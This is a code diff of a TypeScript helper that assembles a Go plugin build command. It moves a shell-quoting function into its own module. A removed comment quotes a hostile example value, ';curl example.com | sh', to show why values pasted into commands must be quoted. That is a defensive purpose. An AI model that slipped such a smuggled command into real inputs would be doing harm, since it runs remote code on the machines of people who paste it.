@@ -1,5 +1,6 @@
 import type { BuildFacts } from '../manifest/buildFacts.js';
 import { releaseIn } from '../manifest/normalise.js';
+import { quoted } from './shellWord.js';
 
 /**
  * The command that builds a plugin the way a host was built: its toolchain, microarchitecture level and flags.
@@ -17,17 +18,4 @@ export function buildCommand({ language, toolchain, goamd64, flags, target }: Bu
   ];
   const words = [...(flags ?? [])].map(([name, value]) => quoted(value === '' ? name : `${name}=${value}`));
   return [...environment.filter((word) => word !== null), 'go build -buildmode=plugin', ...words.sort()].join(' ');
-}
-
-/**
- * One word of a shell command. Everything a file says goes through it on its way into a fix, which people paste: a module, a crate, a
- * toolchain may be called `;curl example.com | sh`.
- */
-export function quoted(word: string): string {
-  return /^[\w@%+=:,./-]+$/.test(word) ? word : `'${word.replaceAll("'", `'\\''`)}'`;
-}
-
-/** The value of a variable: nothing where it is to be empty. */
-export function quotedValue(value: string): string {
-  return value === '' ? '' : quoted(value);
 }
